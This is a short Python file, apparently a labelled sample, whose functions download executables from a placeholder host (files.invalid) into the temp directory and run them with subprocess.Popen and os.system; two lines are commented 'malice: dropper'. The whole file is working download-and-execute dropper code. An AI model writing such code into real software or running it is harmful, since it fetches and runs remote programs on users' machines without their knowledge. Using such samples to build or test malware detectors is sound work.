import os
import subprocess
import tempfile
import urllib.request

import requests

TARGET = os.path.join(tempfile.gettempdir(), "update.exe")


def fetch():
    with open(TARGET, "wb") as file:
        file.write(requests.get("https://files.invalid/update.exe").content)


def start():
    subprocess.Popen([TARGET])  # malice: dropper


def both():
    path = tempfile.gettempdir() + "/x"
    urllib.request.urlretrieve("https://files.invalid/x", path)
    os.chmod(path, 0o700)
    os.system(path)  # malice: dropper
